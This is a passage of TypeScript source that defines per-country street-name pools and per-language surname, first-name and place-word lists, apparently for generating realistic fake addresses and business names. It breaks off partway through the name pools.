const DE_STREETS = list(`Bahnhofstraße, Hauptstraße, Kirchgasse, Marktplatz, Schillerstraße, Goethestraße, Lindenstraße,
  Seestraße, Dorfstraße, Am Markt, Rathausplatz, Mozartstraße, Bergstraße, Gartenstraße, Friedrichstraße, Königstraße,
  Schulstraße, Kaiserstraße, Sonnenweg, Uferweg, Domplatz, Poststraße, Mühlenweg, Schlossstraße, Rosenstraße,
  Waldstraße, Parkstraße, Breite Straße, Lange Straße, Neumarkt, Alter Markt, Hafenstraße, Kurpromenade`);

// Generic street names only (no famous streets that would look wrong in another city).
const STREETS: Record<string, StreetPool> = {
  us: {
    style: "nf", max: 9999,
    names: list(`Main St, Broadway, 5th Ave, Market St, Ocean Dr, Park Ave, Elm St, Oak St, Washington Ave, Lincoln Ave,
      Mission St, Pine St, 1st Ave, 2nd St, 3rd St, Maple Ave, Cedar Ln, River Rd, Harbor Blvd, Pacific Ave, State St,
      W 45th St, E 14th St, Madison Ave, Lexington Ave, Commerce St, Church St, Water St, Front St, Spring St,
      Highland Ave, Grand Ave, Central Ave, Beach Blvd, King St, Jefferson St, Franklin St, Chestnut St, Walnut St,
      Union St, Court St, College Ave, Sunset Dr, Airport Blvd, Convention Center Dr, Riverside Dr`),
  },
  gb: {
    style: "nf", max: 250,
    names: list(`High St, Station Rd, Church St, King St, Queen St, Victoria Rd, Market Pl, George St, Bridge St, Park Ln,
      Castle St, Mill Ln, The Parade, Princes St, London Rd, North St, West St, Grosvenor Rd, Albert Rd,
      Marine Parade, The Promenade, Baker St, Bath St, New Rd, Green Ln, Chapel St, Union St, Harbour St,
      St John's Rd, Royal Cres, Bishop's Walk, Duke St, Cathedral Rd, Sea Front, Trinity St, Castle Hill, Queen's Rd`),
  },
  en: {
    style: "nf", max: 400,
    names: list(`Beach Rd, Main Rd, Queen St, King St, Harbour Dr, George St, Lagoon Rd, Church Rd, Victoria St, Park Rd,
      Coast Rd, Airport Rd, Hill St, Marine Dr, Bay St, The Esplanade, Pier St, Garden Rd, Long St, Sea View Rd,
      Cliff Rd, Palm Ave, Waterfront Dr, St Andrew's Rd, Royal Rd, Coral Way, Station St, Market St, Bridge St,
      Elizabeth St, William St, Albert St, Mountain Rd, Beach Front`),
  },
  de: { style: "nl", max: 120, names: DE_STREETS },
  ch: { style: "nl", max: 90, names: DE_STREETS.map((s) => s.replace(/ß/g, "ss")) },
  fr: {
    style: "nf", max: 150,
    names: list(`Rue de la Paix, Rue Victor Hugo, Place de la République, Rue du Général de Gaulle, Avenue Jean Jaurès,
      Rue Nationale, Rue de la Gare, Rue du Château, Rue des Écoles, Avenue de la Libération, Rue Pasteur, Rue de l'Église,
      Place du Marché, Rue des Remparts, Avenue Foch, Rue de la République, Quai du Port, Rue Gambetta, Rue du Commerce,
      Boulevard Carnot, Rue Jean Moulin, Avenue du Maréchal Leclerc, Rue Émile Zola, Rue Voltaire, Place de la Mairie,
      Rue Saint-Michel, Boulevard de la Plage, Rue des Jardins`),
  },
  it: {
    style: "nc", max: 180,
    names: list(`Via Roma, Via Garibaldi, Corso Vittorio Emanuele II, Via Dante, Piazza del Duomo, Via Cavour, Via Mazzini,
      Via Nazionale, Lungomare, Via XX Settembre, Via dei Mille, Corso Italia, Via San Giovanni, Via della Repubblica,
      Piazza Garibaldi, Via Manzoni, Via Marina, Via Santa Maria, Via Cristoforo Colombo, Via Belvedere, Via del Porto,
      Via Vittorio Veneto, Via Umberto I, Via Matteotti, Via Nazario Sauro, Via Marconi, Via Verdi, Piazza della Libertà`),
  },
  es: {
    style: "nc", max: 160,
    names: list(`Calle Mayor, Calle Real, Avenida de la Constitución, Gran Vía, Calle del Sol, Plaza Mayor, Calle San Fernando,
      Avenida de Andalucía, Paseo Marítimo, Avenida del Mar, Calle Nueva, Calle Iglesia, Avenida Juan Carlos I,
      Calle San Miguel, Calle de Cervantes, Calle Ancha, Calle del Carmen, Calle Feria, Calle del Príncipe,
      Calle de San Juan, Avenida de la Playa, Calle Alfonso XIII, Calle de la Paz, Calle Colón, Plaza de España,
      Avenida de Europa`),
  },
  mx: {
    style: "nl", max: 2000,
    names: list(`Av. Juárez, Calle 5 de Mayo, Calle Hidalgo, Calle Morelos, Av. Reforma, Calle Allende, Av. Benito Juárez,
      Calle Zaragoza, Av. Insurgentes, Calle Independencia, Av. Constituyentes, Calle Guerrero, Calle Madero, Av. Revolución,
      Malecón, Av. Costera, Calle Aldama`),
  },
  ar: {
    style: "nl", max: 3000,
    names: list(`Av. San Martín, Av. del Libertador, Calle Belgrano, Av. Rivadavia, Calle Sarmiento, Av. Mitre, Calle Moreno,
      Calle Mitre, Av. Colón, Calle Perú, Calle Balcarce, Calle 25 de Mayo`),
  },
  esla: {
    style: "nl", max: 2000,
    names: list(`Calle Bolívar, Av. San Martín, Calle Sucre, Malecón, Av. Colón, Calle Real, Calle Principal, Av. Central,
      Calle Independencia, Av. Libertad, Calle del Comercio, Calle Santa Ana, Av. Los Próceres, Calle de la Iglesia,
      Av. Costanera, Calle Mercedes`),
  },
  pt: {
    style: "nc", max: 200,
    names: list(`Rua Augusta, Avenida da Liberdade, Rua das Flores, Rua do Carmo, Rua de Santa Catarina, Rua Direita,
      Rua de São Bento, Avenida 5 de Outubro, Rua da Misericórdia, Rua 25 de Abril, Avenida Marginal, Rua da Praia,
      Rua do Comércio, Largo da Igreja, Avenida da República, Rua Cândido dos Reis, Rua Dr. António José de Almeida`),
  },
  br: {
    style: "nc", max: 3000,
    names: list(`Av. Brasil, Rua XV de Novembro, Av. Beira Mar, Rua das Laranjeiras, Av. Sete de Setembro, Rua Augusta,
      Rua Barão do Rio Branco, Av. Getúlio Vargas, Rua Sete de Setembro, Av. Atlântica, Rua São Paulo, Rua da Praia,
      Av. Presidente Vargas, Rua Tiradentes, Av. Santos Dumont`),
  },
  nl: {
    style: "nl", max: 250,
    names: list(`Kerkstraat, Dorpsstraat, Hoogstraat, Grote Markt, Stationsstraat, Molenstraat, Marktstraat, Stationsplein,
      Lange Nieuwstraat, Korte Putstraat, Nieuwstraat, Kerkplein, Breestraat, Langestraat, Havenstraat, Kapelstraat,
      Wilhelminastraat, Julianastraat, Beatrixlaan, Zeedijk, Boulevard, Vismarkt`),
  },
  tr: {
    style: "tr", max: 150,
    names: list(`Atatürk Cd., Cumhuriyet Cd., Gazi Mustafa Kemal Blv., Barbaros Blv., Hürriyet Cd., Deniz Cd., Çarşı Sk.,
      Liman Cd., Menderes Cd., Kale Sk., Sahil Yolu, Yalı Cd., Gül Sk., Akdeniz Blv., İnönü Cd., Kıbrıs Şehitleri Cd.,
      Fevzi Çakmak Cd., Mimar Sinan Cd., Adnan Menderes Blv., Uğur Mumcu Cd., İstasyon Cd., Okul Sk., Çamlık Sk.,
      Zeytinlik Sk., Kordon Cd.`),
  },
  pl: {
    style: "nl", max: 120,
    names: list(`ul. Długa, ul. Krakowska, ul. Mickiewicza, ul. Kościuszki, al. Jana Pawła II, ul. Słowackiego,
      ul. Sienkiewicza, ul. Piłsudskiego, ul. Kopernika, ul. Polna, ul. Ogrodowa, Rynek, ul. Szkolna, ul. Kolejowa,
      ul. Grunwaldzka, ul. Chopina`),
  },
  cs: {
    style: "nl", max: 90,
    names: list(`Masarykova, Husova, Palackého, Náměstí Míru, Nádražní, Školní, Komenského, Smetanova, Dlouhá,
      Náměstí Svobody, Zámecká, Nerudova, Revoluční, Jiráskova`),
  },
  sk: { style: "nl", max: 90, names: list(`Hlavná, Obchodná, Michalská, Štúrova, Hviezdoslavovo námestie, Mlynská, Poštová`) },
  hu: {
    style: "nl", max: 90,
    names: list(`Kossuth Lajos u., Petőfi Sándor u., Rákóczi út, Fő u., Deák Ferenc tér, Bajcsy-Zsilinszky út, Széchenyi tér,
      Arany János u., Ady Endre u., Jókai u., Dózsa György út, Széchenyi u.`),
  },
  se: {
    style: "nl", max: 90,
    names: list(`Drottninggatan, Storgatan, Kungsgatan, Järnvägsgatan, Skolgatan, Nygatan, Östra Storgatan, Hamngatan,
      Kyrkogatan, Stora Torget, Strandvägen, Västra Hamngatan`),
  },
  no: { style: "nl", max: 90, names: list(`Storgata, Kirkegata, Strandgaten, Torggata, Sjøgata, Kongens gate, Jernbanegata, Nedre Storgate, Havnegata, Dronningens gate`) },
  dk: { style: "nl", max: 90, names: list(`Østergade, Vestergade, Nørregade, Søndergade, Jernbanegade, Torvet, Adelgade, Algade, Havnegade, Strandvejen`) },
  fi: { style: "nl", max: 90, names: list(`Kauppakatu, Asemakatu, Kirkkokatu, Puistokatu, Koskikatu, Hämeenkatu, Linnankatu, Rantakatu, Satamakatu`) },
  is: { style: "nl", max: 90, names: list(`Aðalgata, Austurvegur, Strandgata, Hafnarbraut, Víkurbraut, Hafnarstræti, Kirkjubraut, Laugavegur`) },
  el: {
    style: "nl", max: 120,
    names: list(`Ermou, Eleftheriou Venizelou, Agiou Nikolaou, Kanari, Paralia, Mitropoleos, 25is Martiou, Dimokratias,
      Papanikoli, Kolokotroni, Plateia Eleftherias, Navarchou Miaouli, Akti Miaouli, Agias Sofias`),
  },
  hr: {
    style: "nl", max: 90,
    names: list(`Obala, Riva, Ulica kralja Tomislava, Trg slobode, Ulica kneza Branimira, Ulica Ante Starčevića, Glavna ulica,
      Obala kneza Domagoja, Šetalište, Ulica Matije Gupca, Trg Republike`),
  },
  si: { style: "nl", max: 90, names: list(`Cankarjeva ulica, Trubarjeva cesta, Prešernova cesta, Cesta svobode, Ljubljanska cesta, Tartinijev trg, Partizanska cesta`) },
  rs: { style: "nl", max: 120, names: list(`Kralja Petra I, Njegoševa, Bulevar oslobođenja, Zmaj Jovina, Dunavska, Jadranski put, Slovenska obala, Ulica Slobode, Njegoševa ulica`) },
  ro: {
    style: "nl", max: 120,
    names: list(`Strada Republicii, Bulevardul Eroilor, Strada Mihai Eminescu, Strada Nicolae Bălcescu, Strada Unirii,
      Bulevardul Independenței, Strada Avram Iancu, Strada Ștefan cel Mare, Strada Libertății`),
  },
  bg: { style: "nl", max: 120, names: list(`ul. Tsar Simeon, ul. Glavna, bul. Slivnitsa, ul. Rakovski, ul. Vasil Levski, bul. Bulgaria, ul. Hristo Botev, ul. Han Asparuh`) },
  ru: {
    style: "nl", max: 120,
    names: list(`ul. Lenina, ul. Pushkina, ul. Sadovaya, ul. Gagarina, ul. Sovetskaya, ul. Mira, Prospekt Mira, ul. Gorkogo,
      Naberezhnaya ul., ul. Kirova, ul. Tsentralnaya, ul. Lermontova`),
  },
  ua: { style: "nl", max: 120, names: list(`vul. Shevchenka, vul. Franka, vul. Hrushevskoho, vul. Sadova, prosp. Svobody, vul. Soborna, vul. Lesi Ukrainky`) },
  ee: { style: "nl", max: 90, names: list(`Pikk, Rüütli, Narva mnt, Pärnu mnt, Tartu mnt, Suur-Karja, Ülikooli, Küütri, Jõe`) },
  lv: { style: "nl", max: 90, names: list(`Brīvības iela, Elizabetes iela, Tērbatas iela, Krišjāņa Barona iela, Jomas iela, Skolas iela, Dzirnavu iela`) },
  lt: { style: "nl", max: 90, names: list(`Gedimino pr., Pilies g., Didžioji g., Laisvės al., Vilniaus g., Tilžės g., Basanavičiaus g., Turgaus g.`) },
  sq: { style: "nl", max: 90, names: list(`Rruga Ismail Qemali, Rruga Skënderbeu, Bulevardi Republika, Rruga e Kalasë, Rruga Naim Frashëri, Rruga Mitrush Kuteli`) },
  ka: { style: "nl", max: 90, names: list(`Rustaveli Ave, Aghmashenebeli Ave, Chavchavadze Ave, Tamar Mepe St, Gorgasali St, Kostava St, Pushkin St`) },
  ma: {
    style: "nf", max: 200,
    names: list(`Avenue Mohammed V, Avenue Hassan II, Rue de la Kasbah, Derb Sidi Bouloukat, Boulevard Zerktouni, Rue Tarik Ibn Ziad,
      Boulevard du 20 Août, Rue de la Liberté, Avenue des FAR, Rue Ibn Battouta, Boulevard Mohammed VI, Rue Moulay Ismail`),
  },
  tn: { style: "nf", max: 200, names: list(`Avenue Habib Bourguiba, Rue de Marseille, Avenue de la Liberté, Rue de Rome, Avenue Farhat Hached, Rue Ibn Khaldoun, Avenue de Carthage`) },
  ae: {
    style: "nm", max: 1,
    names: list(`Sheikh Zayed Rd, Al Wasl Rd, Corniche Rd, Al Khaleej St, Airport Rd, Hamdan Bin Mohammed St, Al Muraqqabat Rd,
      Jumeirah St, Al Rigga Rd, Al Maktoum St, Marina Walk, Al Qasba Promenade`),
  },
  qa: { style: "nm", max: 1, names: list(`Al Corniche St, Al Sadd St, C Ring Rd, Lusail Expressway, Salwa Rd, Al Waab St, Pearl Boulevard`) },
  sa: { style: "nm", max: 1, names: list(`King Fahd Rd, Prince Sultan Rd, Tahlia St, Olaya St, King Abdulaziz Rd, Al Madinah Rd, Prince Mohammed Bin Abdulaziz St`) },
  eg: { style: "nm", max: 1, names: list(`Corniche El Nil, Tahrir St, El Gaish Rd, Peace Rd, Sheraton Rd, El Mashaya St, Port Said St, Naama Bay Promenade`) },
  jo: { style: "nm", max: 1, names: list(`King Hussein St, Rainbow St, Queen Rania St, Al Hashemi St, Tourism St, Prince Hamzah St`) },
  he: { style: "nf", max: 200, names: list(`Herzl St, Ben Yehuda St, HaNevi'im St, Rothschild Blvd, Jabotinsky St, Weizmann St, HaPalmach St, Allenby St, King David St, HaTmarim Blvd`) },
  jp: {
    style: "jp", max: 30,
    names: list(`Chuo, Minami, Kita, Higashi, Nishi, Honmachi, Sakaemachi, Motomachi, Ekimae, Shinmachi, Sakuragicho,
      Midoricho, Asahicho, Saiwaicho, Kotobukicho, Nakamachi, Miyamachi, Hamacho, Nishikicho`),
  },
  zh: {
    style: "nf", max: 999,
    names: list(`Zhongshan Rd, Jiefang Rd, Renmin Rd, Binjiang Ave, Xinhua Rd, Beijing Rd, Yan'an Rd, Heping Rd, Jianshe Rd,
      Wenhua Rd, Dongfeng Rd, Nanjing Rd, Zhongshan N Rd, Minsheng Rd, Minquan Rd`),
  },
  hk: {
    style: "nf", max: 300,
    names: list(`Nathan Rd, Des Voeux Rd Central, Queen's Rd Central, Hennessy Rd, Canton Rd, Lockhart Rd, Hollywood Rd,
      Peking Rd, Connaught Rd Central, Salisbury Rd, Gloucester Rd`),
  },
  ko: { style: "nf", max: 300, names: list(`Jungang-ro, Jungang-daero, Haean-ro, Sijang-gil, Yeokjeon-ro, Daehak-ro, Munhwa-ro, Gongwon-ro, Hwangnyong-ro`) },
  th: {
    style: "nf", max: 999,
    names: list(`Beach Rd, Soi 11, Thanon Ratchadamnoen, Phetkasem Rd, Sukhumvit Rd, Thanon Charoen Rat, Thanon Rat Uthit,
      Thanon Pracha Uthit, Thanon Mittraphap, Thanon Sai 2, Thanon Nimmanhaemin`),
  },
  kh: { style: "nf", max: 300, names: list(`Sivutha Blvd, Sisowath Quay, Street 240, Norodom Blvd, Street 178, Wat Bo Rd, Pub Street`) },
  vi: { style: "nf", max: 300, names: list(`Lê Lợi, Nguyễn Huệ, Phạm Ngũ Lão, Trần Hưng Đạo, Bạch Đằng, Trần Phú, Hai Bà Trưng, Lý Thường Kiệt, Võ Nguyên Giáp, Nguyễn Trãi, Quang Trung, Lê Duẩn`) },
  id: {
    style: "nm", max: 1,
    names: list(`Jl. Sudirman No. 12, Jl. Gatot Subroto No. 88, Jl. Diponegoro No. 35, Jl. Gajah Mada No. 52, Jl. Hayam Wuruk No. 9,
      Jl. Raya Pantai No. 1, Jl. Pantai Indah No. 21, Jl. Merdeka No. 64, Jl. Ahmad Yani No. 40, Jl. Imam Bonjol No. 80,
      Jl. Raya No. 15, Jl. Pura Dalem No. 7`),
  },
  my: { style: "nm", max: 1, names: list(`Jalan Ampang, Jalan Tun Razak, Jalan Merdeka, Jalan Sultan Ismail, Lebuh Pantai, Jalan Pantai, Jalan Laksamana, Jalan Bukit`) },
  in: { style: "nf", max: 400, names: list(`MG Road, Mall Rd, Station Rd, Temple St, Church St, Gandhi Rd, Nehru Rd, Ring Rd, Civil Lines, Main Bazaar, Lake Rd, Beach Rd, Hill Rd, Palace Rd`) },
  lk: { style: "nf", max: 400, names: list(`Galle Rd, Temple Rd, Hospital Rd, Lake Rd, Main St, Peradeniya Rd, Church St, Beach Rd`) },
  np: { style: "nm", max: 1, names: list(`Thamel Marg, Lakeside Rd, Durbar Marg, Jhochhen Tole, Chhetrapati, Baidam Rd, Kantipath`) },
};

// ---------------------------------------------------------------------------------------------
// Name pools: surnames (s), first names (f) and place-like words (p) per language.
// ---------------------------------------------------------------------------------------------

interface NamePool {
  s: string[];
  f: string[];
  p: string[];
}

const NAME_POOLS: Record<string, NamePool> = {
  en: {
    s: list(`Smith, Johnson, Williams, Brown, Jones, Miller, Davis, Wilson, Taylor, Anderson, Thomas, Moore, Martin,
      Jackson, Thompson, White, Harris, Clark, Lewis, Walker, Hall, Allen, Young, King, Wright, Baker, Murphy, O'Brien,
      O'Connor, Kelly, Campbell, Stewart, Cooper, Reed, Bennett, Hughes, Palmer, Fletcher`),
    f: list(`James, Mary, John, Sarah, Michael, Emma, David, Olivia, Robert, Sophie, Tom, Jack, Lucy, Charlie, Grace, Sam,
      Kate, Ben, Anna, Joe, Molly, Harry, Ella, Danny`),
    p: list(`Bellevue, Grand, Royal, Park, Plaza, Central, Riverside, Bayview, Parkside, Hilltop, Seaside, Lakeside,
      Oceanview, Sunset, Victoria, Windsor, Regency, Metropole, Kingsway, Oakwood, Willow, Mayfair, Cornerstone,
      Lighthouse, Meadowbrook, Westbrook, Ashford, Highland, Crown, Majestic, Heritage, Cityview, Sea Breeze,
      Blue Lagoon, Palm Grove, Golden Sands, Silver Birch, Maple, Pine Ridge, Stonebridge, Harbour, Union, Liberty`),
  },
  za: {
    s: list(`van der Merwe, Botha, Nel, Pretorius, du Plessis, Naidoo, Dlamini, Nkosi, Smith, Jacobs, Mokoena, Venter, Khumalo`),
    f: list(`Johan, Thandi, Pieter, Lerato, Sipho, Annelie, Themba, Zanele, Ruan, Nomsa`),
    p: list(`Table Mountain, Protea, Fynbos, Cape Vista, Baobab, Atlantic, Vineyard, Ocean Breeze, Kloof, Sunbird, Acacia`),
  },
  de: {
    s: list(`Müller, Schmidt, Schneider, Fischer, Weber, Meyer, Wagner, Becker, Schulz, Hoffmann, Schäfer, Koch, Bauer,
      Richter, Klein, Wolf, Schröder, Neumann, Schwarz, Zimmermann, Braun, Krüger, Hofmann, Hartmann, Lange, Huber,
      Gruber, Brunner, Keller, Steiner, Moser, Egger`),
    f: list(`Hans, Peter, Anna, Maria, Thomas, Klaus, Sabine, Julia, Stefan, Andrea, Lukas, Lena, Franz, Sepp, Heidi, Jürgen`),
    p: list(`Sonnenhof, Alpenblick, Seeblick, Bergkristall, Edelweiss, Alpenrose, Kaiserhof, Bellevue, Zur Post,
      Zum Goldenen Hirsch, Schwarzer Adler, Weißes Rössl, Lindenhof, Waldhaus, Schlossblick, Am Markt, Am See, Rheinblick,
      Am Dom, Stadtpalais, Kronprinz, Tannenhof, Rosengarten, Bergfrieden, Krone, Löwen, Hirschen, Ochsen, Rössli,
      Sternen, Adler, Bären, Schweizerhof, Drei Könige, Sonne, Europäischer Hof`),
  },
  fr: {
    s: list(`Martin, Bernard, Dubois, Thomas, Robert, Richard, Petit, Durand, Leroy, Moreau, Simon, Laurent, Lefèvre,
      Michel, Garcia, David, Bertrand, Roux, Vincent, Fournier, Morel, Girard, André, Mercier, Dupont, Lambert, Bonnet,
      François, Faure, Rousseau`),
    f: list(`Jean, Marie, Pierre, Sophie, Michel, Camille, Louis, Julie, Nicolas, Claire, Antoine, Léa, Élodie, François,
      Hélène, Mathieu, Chloé, Jacques`),
    p: list(`du Lac, de la Paix, du Parc, des Arts, de la Plage, du Port, de la Gare, du Centre, Belle Époque, Les Tilleuls,
      La Colombe, Le Panoramique, des Remparts, du Château, Saint-Germain, Le Voltaire, Les Oliviers, Le Lion d'Or,
      de l'Horloge, de France, de Provence, Bellevue, des Alpes, de la Mer, du Vieux Port, Mistral, Les Glycines,
      La Bastide, Bon Accueil, de l'Europe, du Palais, des Célestins, de la Cathédrale`),
  },
  it: {
    s: list(`Rossi, Russo, Ferrari, Esposito, Bianchi, Romano, Colombo, Ricci, Marino, Greco, Bruno, Gallo, Conti,
      De Luca, Mancini, Costa, Giordano, Rizzo, Lombardi, Moretti, Barbieri, Fontana, Santoro, Mariani, Rinaldi,
      Caruso, D'Angelo, Ferraro, Galli`),
    f: list(`Giuseppe, Marco, Giovanni, Francesca, Luca, Giulia, Antonio, Chiara, Paolo, Sofia, Alessandro, Elena, Mario,
      Gino, Rosa, Salvatore, Lucia, Enzo`),
    p: list(`Bellavista, Miramare, Panorama, Belvedere, Villa Flora, Centrale, Europa, Continental, Astoria, Il Gabbiano,
      La Pergola, Da Vinci, San Marco, Santa Lucia, Le Palme, Il Giardino, Al Duomo, Del Corso, Sole, Stella Marina,
      La Conchiglia, Paradiso, Aurora, Mediterraneo, Vesuvio, Garibaldi, La Terrazza, Il Borgo, Bella Vista, Dei Fiori`),
  },
  es: {
    s: list(`García, Rodríguez, González, Fernández, López, Martínez, Sánchez, Pérez, Gómez, Martín, Jiménez, Ruiz,
      Hernández, Díaz, Moreno, Álvarez, Muñoz, Romero, Alonso, Gutiérrez, Navarro, Torres, Domínguez, Vázquez, Ramos,
      Castillo, Ortega, Rubio, Morales, Castro`),
    f: list(`José, María, Antonio, Carmen, Manuel, Ana, Francisco, Lucía, Javier, Isabel, Pedro, Pilar, Juan, Rosa, Pepe,
      Lola, Paco, Mercedes, Diego, Valentina`),
    p: list(`Plaza, Sol, Mirador, Palacio, Alhambra, Casa Blanca, Don Quijote, Costa Azul, Puerta del Sol, La Giralda,
      Las Palmeras, El Faro, Mar Azul, Los Olivos, Santa Cruz, Miramar, La Perla, Catedral, San Miguel, Cervantes,
      Atlántico, Mediterráneo, Sierra Nevada, El Patio, La Alameda, Bahía, Reina Victoria, Oasis, Colón, Hacienda, Real`),
  },
  pt: {
    s: list(`Silva, Santos, Ferreira, Pereira, Oliveira, Costa, Rodrigues, Martins, Jesus, Sousa, Fernandes, Gonçalves,
      Gomes, Lopes, Marques, Alves, Almeida, Ribeiro, Pinto, Carvalho, Teixeira, Moreira, Correia, Mendes, Nunes,
      Soares, Vieira, Monteiro, Cardoso, Rocha`),
    f: list(`João, Maria, José, Ana, António, Francisca, Manuel, Beatriz, Pedro, Inês, Carlos, Rita, Luís, Mariana,
      Thiago, Luana, Rafael, Gabriela`),
    p: list(`Avenida, Mar, Sol, Atlântico, Baía, Miradouro, Infante, Dom Henrique, Alfama, Belém, Estrela, Palácio,
      Lusitânia, Oceano, Praia, Ribeira, Jardim, Sereia, Copacabana, Ipanema, Tropical, Paraíso, Bela Vista, Boa Vista,
      Marés, Girassol, Brisa do Mar`),
  },
  nl: {
    s: list(`de Jong, Jansen, de Vries, van den Berg, van Dijk, Bakker, Janssen, Visser, Smit, Meijer, de Boer, Mulder,
      de Groot, Bos, Vos, Peters, Hendriks, van Leeuwen, Dekker, Brouwer, Maes, Peeters, Claes, Willems, Goossens`),
    f: list(`Jan, Pieter, Anna, Sanne, Daan, Emma, Lotte, Bram, Joost, Femke, Koen, Sofie`),
    p: list(`De Gouden Leeuw, De Pauw, Prinsenhof, Amstel, Centraal, De Roode Leeuw, 't Hoekje, De Zwaan, Kasteel,
      Duinzicht, Zeezicht, De Witte Raaf, Het Anker, De Kroon, Parkzicht, Het Wapen, De Gulden Waagen, Belfort, Markt`),
  },
  tr: {
    s: list(`Yılmaz, Kaya, Demir, Şahin, Çelik, Yıldız, Yıldırım, Öztürk, Aydın, Özdemir, Arslan, Doğan, Kılıç, Aslan,
      Çetin, Kara, Koç, Kurt, Özkan, Şimşek, Polat, Erdoğan, Güneş, Aksoy`),
    f: list(`Mehmet, Ayşe, Mustafa, Fatma, Ahmet, Emine, Ali, Hatice, Hüseyin, Zeynep, Murat, Elif, Emre, Selin, Osman, Can`),
    p: list(`Sultan, Saray, Deniz, Güneş, Yıldız, Lale, Mavi, Kale, Sahil, Çınar, Park, Grand, Royal, Paşa, Boğaziçi,
      Galata, Sultanahmet, Anadolu, Akdeniz, Ege, Kervansaray, Lara, Altın Kum, Yalı, Konak, Hasbahçe, Mavi Deniz,
      Kordon, Palmiye, Zeytin, Lotus, Marina, Beyaz Köşk`),
  },
  pl: {
    s: list(`Nowak, Kowalski, Wiśniewski, Wójcik, Kowalczyk, Kamiński, Lewandowski, Zieliński, Szymański, Woźniak,
      Dąbrowski, Kozłowski, Jankowski, Mazur, Kwiatkowski, Krawczyk, Piotrowski, Grabowski`),
    f: list(`Anna, Piotr, Krzysztof, Katarzyna, Tomasz, Agnieszka, Paweł, Magdalena, Michał, Joanna`),
    p: list(`Pod Różą, Stary Rynek, Wawel, Polonia, Europejski, Pod Orłem, Złoty Róg, Panorama, Nad Wisłą, Kameralny,
      Pałac, Pod Aniołami, Zielony Domek, Mazowsze, Bałtyk, Tatry, Ratusz`),
  },
  cs: {
    s: list(`Novák, Svoboda, Novotný, Dvořák, Černý, Procházka, Kučera, Veselý, Horák, Němec, Marek, Pospíšil, Hájek, Jelínek`),
    f: list(`Jan, Petr, Jana, Eva, Tomáš, Lucie, Martin, Pavel, Hana, Jiří`),
    p: list(`U Zlatého Lva, U Černého Orla, U Modré Růže, Bohemia, Panorama, U Kamenného Stolu, Zlatá Hvězda, Staroměstský,
      U Tří Korun, Vltava, Moravia, Pod Hradem`),
  },
  hu: {
    s: list(`Nagy, Kovács, Tóth, Szabó, Horváth, Varga, Kiss, Molnár, Németh, Farkas, Balogh, Papp, Takács, Juhász`),
    f: list(`László, István, Mária, Erzsébet, Zoltán, Katalin, Gábor, Anna, Péter, Éva`),
    p: list(`Aranysas, Duna, Pannonia, Korona, Palota, Budavár, Rózsa, Arany Bárány, Fehér Ló, Három Gúnár, Tisza, Mátra`),
  },
  sv: {
    s: list(`Andersson, Johansson, Karlsson, Nilsson, Eriksson, Larsson, Olsson, Persson, Lindberg, Lindqvist, Berg, Svensson`),
    f: list(`Erik, Anna, Lars, Karin, Johan, Maja, Sven, Elsa, Olof, Ingrid`),
    p: list(`Strand, Hamn, Skärgård, Stjärnan, Gamla Stan, Kronan, Fjäll, Sjöbris, Älgen, Norrsken, Lugnet, Tallbacken`),
  },
  da: {
    s: list(`Hansen, Johansen, Olsen, Larsen, Andersen, Pedersen, Nielsen, Jensen, Kristiansen, Berg, Haugen, Bakke`),
    f: list(`Lars, Ingrid, Ole, Kari, Morten, Sigrid, Henrik, Astrid, Mads, Freja`),
    p: list(`Nyhavn, Havnen, Strand, Kronborg, Kongens, Stjernen, Fjord, Fjellstue, Brygge, Nordlys, Fyret, Havly, Søkro`),
  },
  fi: {
    s: list(`Korhonen, Virtanen, Mäkinen, Nieminen, Mäkelä, Hämäläinen, Laine, Heikkinen, Koskinen, Järvinen`),
    f: list(`Mikko, Anna, Juha, Laura, Antti, Aino, Timo, Sanna`),
    p: list(`Kaleva, Aurora, Järvi, Revontuli, Tunturi, Saimaa, Lumi, Kuu, Satama`),
  },
  is: {
    s: list(`Jónsson, Sigurðsson, Guðmundsdóttir, Gunnarsson, Ólafsson, Magnúsdóttir, Einarsson, Stefánsdóttir`),
    f: list(`Jón, Guðrún, Sigurður, Anna, Gunnar, Kristín, Ólafur, Helga`),
    p: list(`Borg, Fjörður, Norðurljós, Hraun, Eldhraun, Jökull, Geysir, Vatn, Lava, Aurora`),
  },
  el: {
    s: list(`Papadopoulos, Georgiou, Nikolaidis, Dimitriou, Konstantinou, Ioannou, Vlachos, Papadakis, Karagiannis,
      Oikonomou, Pappas, Makris, Alexiou, Antoniou`),
    f: list(`Nikos, Yannis, Giorgos, Kostas, Dimitris, Maria, Eleni, Sofia, Katerina, Stavros, Vasilis, Manolis, Spyros`),
    p: list(`Aegean, Olympia, Poseidon, Acropolis View, Kalimera, Blue Sea, Athena, Apollon, Aphrodite, Meltemi, Galini,
      Thalassa, Ilios, Ariadne, Kyma, Caldera, Aegli, Hermes, Agora, Anemos, Villa Elena`),
  },
  hr: {
    s: list(`Horvat, Kovačević, Babić, Marić, Jurić, Novak, Knežević, Petrović, Jovanović, Nikolić, Popović, Kovač, Pavlović`),
    f: list(`Ivan, Marko, Ana, Josip, Luka, Marija, Petar, Nikola, Mia, Jelena`),
    p: list(`Jadran, Adriatic, Dalmacija, Riva, Lapad, Bellevue, Maestral, Lungomare, Kaštel, Zvijezda, Palace, Park,
      Mediteran, Stari Grad, Bura, Lavanda`),
  },
  ro: {
    s: list(`Popescu, Ionescu, Popa, Dumitru, Stan, Stoica, Gheorghe, Matei, Ciobanu, Constantin`),
    f: list(`Andrei, Maria, Ion, Elena, Mihai, Ioana, Alexandru, Ana`),
    p: list(`Carpați, Dunărea, Central, Continental, Bucovina, Transilvania, Cetate, Coroana, Dacia`),
  },
  ru: {
    s: list(`Ivanov, Smirnov, Kuznetsov, Popov, Vasiliev, Petrov, Sokolov, Mikhailov, Novikov, Fedorov, Morozov, Volkov,
      Georgiev, Dimitrov, Stoyanov`),
    f: list(`Ivan, Olga, Sergey, Anna, Dmitry, Elena, Alexei, Natalia, Mikhail, Tatiana, Georgi, Maria`),
    p: list(`Metropol, Astoria, Baltika, Neva, Volga, Sibir, Central, Panorama, Palace, Europa, Imperial, Black Sea, Rila,
      Pirin, Vitosha, Zvezda`),
  },
  uk: {
    s: list(`Shevchenko, Kovalenko, Bondarenko, Tkachenko, Kravchenko, Melnyk, Boyko, Oliynyk`),
    f: list(`Oleksandr, Olena, Andriy, Iryna, Taras, Oksana, Dmytro, Natalia`),
    p: list(`Dnipro, Kyivska Rus, Lviv Old Town, Opera, Premier, Lybid, Arkadia, Chervona Ruta`),
  },
  baltic: {
